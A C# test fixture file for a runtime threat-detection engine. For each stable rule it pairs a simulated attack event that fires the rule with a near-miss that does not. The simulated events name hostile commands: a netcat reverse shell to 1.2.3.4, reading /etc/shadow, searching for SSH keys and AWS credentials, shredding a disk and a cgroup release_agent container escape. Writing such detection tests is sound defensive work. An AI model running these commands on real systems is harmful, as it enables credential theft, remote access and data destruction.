using Lanner.Events;
using Lanner.Rules.Tests.Engine;
using Lanner.State.Containers;

namespace Lanner.Rules.Tests.Stable;

/// <summary>What makes a rule fire, and what is as near to it as can be and does not.</summary>
sealed record StableRuleCase(string Rule, Action<Scene> Fire, Action<Scene> Miss);

/// <summary>For each of the official stable rules one case; things happen as an attacker or a harmless program does them.</summary>
static class StableRuleCases
{
    const int Pid = 100, Parent = 50;

    const int DacOverride = 1, SysModule = 16, SysAdmin = 21;

    const string Api = "10.96.0.1";

    public static IReadOnlyList<StableRuleCase> All { get; } =
    [
        new("Directory traversal monitored file read",
            s => Reads(s, "cat", "../../../etc/shadow", cwd: "/var/www/html"),
            s => Reads(s, "cat", "/etc/shadow", cwd: "/var/www/html")),
        new("Read sensitive file trusted after startup",
            s => Reads(s, "nginx", "/etc/shadow"),
            s => Reads(s, "nginx", "/etc/shadow", ageNs: 1_000_000_000)),
        new("Read sensitive file untrusted",
            s => Reads(s, "cat", "/etc/shadow"),
            s => Reads(s, "su", "/etc/shadow")),
        new("Run shell untrusted",
            s => Runs(s, "sh", "-c id", parentName: "nginx"),
            s => Runs(s, "sh", "-c kill -0 7", parentName: "nginx")),
        new("System user interactive",
            s => { s.Seed(40, 1, "sshd"); s.Seed(Parent, 40, "bash", uid: 33); s.Exec(Pid, Parent, "id", uid: 33); },
            s => { s.Seed(40, 1, "sshd"); s.Seed(Parent, 40, "bash", uid: 1000); s.Exec(Pid, Parent, "id", uid: 1000); }),
        new("Terminal shell in container",
            s => { s.WithContainer(); s.Seed(Parent, 1, "runc"); s.Exec(Pid, Parent, "bash", cgroups: Scene.InContainer, tty: 34816); },
            s => { s.WithContainer(); s.Seed(Parent, 1, "runc"); s.Exec(Pid, Parent, "bash", cgroups: Scene.InContainer, tty: 0); }),
        new("Contact K8S API Server From Container",
            s => ConnectsFromContainer(s, Api + ":443", "curl"),
            s => ConnectsFromContainer(s, "10.96.0.2:443", "curl")),
        new("Netcat Remote Code Execution in Container",
            s => RunsInContainer(s, "nc", "-e /bin/sh 1.2.3.4 9"),
            s => RunsInContainer(s, "nc", "-l 9")),
        new("Search Private Keys or Passwords",
            s => Runs(s, "find", "/ -name id_rsa"),
            s => Runs(s, "find", "/ -name id_card")),
        new("Clear Log Activities",
            s => Writes(s, "/var/log/syslog", "O_WRONLY|O_TRUNC"),
            s => Writes(s, "/var/log/syslog", "O_WRONLY|O_APPEND")),
        new("Remove Bulk Data from Disk",
            s => Runs(s, "shred", "/dev/sda"),
            s => Runs(s, "rm", "/dev/sda")),
        new("Create Symlink Over Sensitive Files",
            s => { s.Seed(Pid, 1, "ln"); s.Send(s.Event(EventCode.SymlinkExit, Pid).Add(0).Add("/etc/shadow").Add("/tmp/s")); },
            s => { s.Seed(Pid, 1, "ln"); s.Send(s.Event(EventCode.SymlinkExit, Pid).Add(0).Add("/etc/shadow2").Add("/tmp/s")); }),
        new("Create Hardlink Over Sensitive Files",
            s => { s.Seed(Pid, 1, "ln"); s.Send(s.Event(EventCode.LinkatExit, Pid).Add(0).Add(-100).Add("/etc/shadow").Add(-100).Add("/tmp/s").Add(0)); },
            s => { s.Seed(Pid, 1, "ln"); s.Send(s.Event(EventCode.LinkatExit, Pid).Add(0).Add(-100).Add("/tmp/s").Add(-100).Add("/etc/shadow").Add(0)); }),
        new("Packet socket created in container",
            s => { s.WithContainer(); s.Seed(Pid, 1, "arp", Scene.InContainer); s.Socket(Pid, "AF_PACKET", type: 3); },
            s => { s.Seed(Pid, 1, "arp"); s.Socket(Pid, "AF_PACKET", type: 3); }),
        new("Redirect STDOUT/STDIN to Network Connection in Container",
            s => { ConnectsFromContainer(s, "8.8.8.8:9001", "python"); s.Send(s.Event(EventCode.Dup2Exit, Pid).Add(0).Add(3).Add(0)); },
            s => { ConnectsFromContainer(s, "8.8.8.8:9001", "python"); s.Send(s.Event(EventCode.Dup2Exit, Pid).Add(5).Add(3).Add(5)); }),
        new("Linux Kernel Module Injection Detected",
            s => LoadsModule(s, Scene.Caps(SysModule)),
            s => LoadsModule(s, Scene.Caps(SysAdmin))),
        new("Debugfs Launched in Privileged Container",
            s => { s.WithContainer(new ContainerDetail { Name = Scene.Utf8("web"), Privileged = true }); RunsInContainer(s, "debugfs", "/dev/sda1"); },
            s => { s.WithContainer(new ContainerDetail { Name = Scene.Utf8("web") }); RunsInContainer(s, "debugfs", "/dev/sda1"); }),
        new("Detect release_agent File Container Escapes",
            s => WritesInContainer(s, "/sys/fs/cgroup/rdma/release_agent", Scene.Caps(SysAdmin, DacOverride)),
            s => WritesInContainer(s, "/sys/fs/cgroup/rdma/release_agent", Scene.Caps(DacOverride))),
        new("PTRACE attached to process",
            s => { s.Seed(Pid, 1, "inject"); s.Ptrace(Pid, "PTRACE_ATTACH"); },
            s => { s.Seed(Pid, 1, "inject"); s.Ptrace(Pid, "PTRACE_CONT"); }),
        new("PTRACE anti-debug attempt",
            s => { s.Seed(Pid, 1, "malware"); s.Ptrace(Pid, "PTRACE_TRACEME"); },
            s => { s.Seed(Pid, 1, "malware"); s.Ptrace(Pid, "PTRACE_ATTACH"); }),
        new("Find AWS Credentials",
            s => Runs(s, "grep", "-r AWS_ACCESS_KEY_ID /"),
            s => Runs(s, "grep", "-r AWS_REGION /")),
        new("Execution from /dev/shm",
            s => Runs(s, "x", exe: "/dev/shm/x"),
            s => Runs(s, "x", exe: "/dev/shmx/x")),
        new("Drop and execute new binary in container",
            s => { s.WithContainer(); RunsInContainer(s, "dropped", "", Scene.Flags("execve_flags", "EXE_UPPER_LAYER")); },
            s => { s.WithContainer(); RunsInContainer(s, "dropped", "", Scene.Flags("execve_flags", "EXE_LOWER_LAYER")); }),
        new("Disallowed SSH Connection Non Standard Port",
            s => { s.Seed(Pid, 1, "ssh", exe: "/usr/bin/ssh"); s.Socket(Pid, "AF_INET"); s.Connect(Pid, "8.8.8.8:443"); },
            s => { s.Seed(Pid, 1, "ssh", exe: "/usr/bin/ssh"); s.Socket(Pid, "AF_INET"); s.Connect(Pid, "8.8.8.8:22"); }),
        new("Fileless execution via memfd_create",
            s => Runs(s, "3", exe: "/proc/self/fd/3", flags: Scene.Flags("execve_flags", "EXE_FROM_MEMFD")),
            s => Runs(s, "runc", exe: "/proc/self/fd/3", flags: Scene.Flags("execve_flags", "EXE_FROM_MEMFD"))),
    ];

    /// <summary>The name that the test's resolver gives to the API server's address.</summary>
    public static string ApiServerAddress => Api;

    static void Reads(Scene s, string name, string path, string cwd = "/", ulong ageNs = 3600_000_000_000)
    {
        s.Seed(Parent, 1, "app");
        s.Seed(Pid, Parent, name, cwd: cwd, ageNs: ageNs);
        s.Openat(Pid, path, "O_RDONLY");
    }

    static void Writes(Scene s, string path, string flags)
    {
        s.Seed(Pid, 1, "app");
        s.Openat(Pid, path, flags);
    }

    static void WritesInContainer(Scene s, string path, ulong caps)
    {
        s.WithContainer();
        s.Seed(Pid, 1, "sh", Scene.InContainer, caps: caps);
        s.Openat(Pid, path, "O_WRONLY");
    }

    static void Runs(Scene s, string name, string args = "", string parentName = "app", string exe = "", uint flags = 0)
    {
        s.Seed(Parent, 1, parentName);
        s.Exec(Pid, Parent, name, args, exe: exe, flags: flags);
    }

    static void RunsInContainer(Scene s, string name, string args, uint flags = 0)
    {
        if (s.State.Containers.Count == 0) s.WithContainer();
        s.Seed(Parent, 1, "app", Scene.InContainer);
        s.Exec(Pid, Parent, name, args, Scene.InContainer, flags: flags);
    }

    static void ConnectsFromContainer(Scene s, string destination, string name)
    {
        s.WithContainer();
        s.Seed(Pid, 1, name, Scene.InContainer);
        s.Socket(Pid, "AF_INET");
        s.Connect(Pid, destination);
    }

    static void LoadsModule(Scene s, ulong caps)
    {
        s.WithContainer();
        s.Seed(Pid, 1, "insmod", Scene.InContainer, caps: caps);
        s.Send(s.Event(EventCode.InitModuleExit, Pid).Add(0).Add([1, 2, 3]).Add(3).Add(""));
    }
}
